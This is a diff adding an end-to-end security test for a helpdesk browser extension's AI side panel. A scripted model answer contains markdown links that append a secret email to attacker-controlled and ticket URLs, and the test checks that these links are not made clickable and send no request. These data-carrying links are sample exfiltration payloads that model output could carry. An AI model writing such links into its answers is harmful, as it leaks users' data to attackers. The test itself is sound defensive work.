@@ -4,7 +4,7 @@ import type { Page } from 'playwright-core';
 import { afterAll, beforeAll, beforeEach, describe, expect } from 'vitest';
 import { launchChromium, openRealSidePanel, type ChromiumHarness, type SidePanel } from '../e2e/harness/chromium';
 import { ask, configureChromium, startModel, waitForChat, type ModelForExtension } from '../e2e/harness/chat';
-import { openTicket, startDemoHelpdesk, TICKET_1, waitIn, type DemoHelpdesk } from '../e2e/harness/deskmate';
+import { openTicket, sendToBackground, startDemoHelpdesk, TICKET_1, waitIn, type DemoHelpdesk } from '../e2e/harness/deskmate';
 import { poll } from '../e2e/harness/wait';
 import { attack } from './attack';
 
@@ -112,5 +112,48 @@ describe('security: model-written links in Chromium (finding 3)', () => {
     await poll(async () => (hits.length ? true : undefined), 'the second step to open the address');
     expect(hits).toEqual([`/inline?email=${SECRET}`]);
     await tab.close();
+  });
+
+  attack('a link to a site the knowledge base only mentions, or one that carries data, opens on one click', async () => {
+    const status = `${attackerOrigin}/status`;
+    const returns = `${attackerOrigin}/returns`;
+    const ticketLink = helpdesk.ticketUrl(TICKET_1.id);
+    m.model.script([
+      {
+        text: [
+          `[Open ticket #1047 in the helpdesk](${status}?email=${SECRET})`,
+          `[The returns form](${returns}?email=${SECRET})`,
+          `[This ticket](${ticketLink}?email=${SECRET})`,
+          `[The returns form, as the knowledge base gives it](${returns})`,
+        ].join('\n\n'),
+      },
+    ]);
+    page = await openTicket(chromium.context, helpdesk, TICKET_1.id);
+    panel = await openRealSidePanel(chromium.context, chromium.extensionId, page);
+    await panel.waitFor('[data-testid="chat-input"]');
+    // The team's knowledge base names the attacker's status page, and links one exact address there.
+    const kb = `# Status\nOutages are posted on ${status} as they happen.\n\n# Returns\nUse [the returns form](${returns}).`;
+    expect(await sendToBackground(panel, { type: 'kb.import', files: [{ name: 'kb.md', text: kb }] })).toMatchObject({ ok: true, value: { added: 2 } });
+    try {
+      await ask(panel, 'Where does the customer return the lamp?');
+      await waitForChat(panel, (v) => !v.running && v.assistants.some((a) => a.text.includes('Open ticket #1047')), 'the answer with its links');
+      const p = panel;
+      // Settled once the exact address the knowledge base links to is trusted.
+      await waitIn(p, () => document.querySelectorAll('[data-testid="md-link"][data-trusted="true"]').length === 1, null, 'the knowledge base’s own link trusted');
+      expect(await p.evaluate(() => [...document.querySelectorAll('.chat-log a[href]')].map((a) => a.getAttribute('href')))).toEqual([returns]);
+      const toggles = await p.evaluate(() => document.querySelectorAll('[data-testid="ext-link-toggle"]').length);
+      const pagesBefore = chromium.context.pages().length;
+      for (let i = 0; i < toggles; i++) {
+        await p.evaluate((n) => document.querySelectorAll('[data-testid="ext-link-toggle"]')[n]!.setAttribute('data-n', String(n)), i);
+        await p.click(`[data-testid="ext-link-toggle"][data-n="${i}"]`);
+      }
+      await new Promise((r) => setTimeout(r, 1_000));
+      expect(hits).toEqual([]);
+      expect(chromium.context.pages().length).toBe(pagesBefore);
+      const urls = await p.evaluate(() => [...document.querySelectorAll('[data-testid="ext-link-url"]')].map((u) => u.textContent));
+      expect(urls).toEqual([`${status}?email=${SECRET}`, `${returns}?email=${SECRET}`, `${ticketLink}?email=${SECRET}`]);
+    } finally {
+      await sendToBackground(panel, { type: 'kb.clear' });
+    }
   });
 });
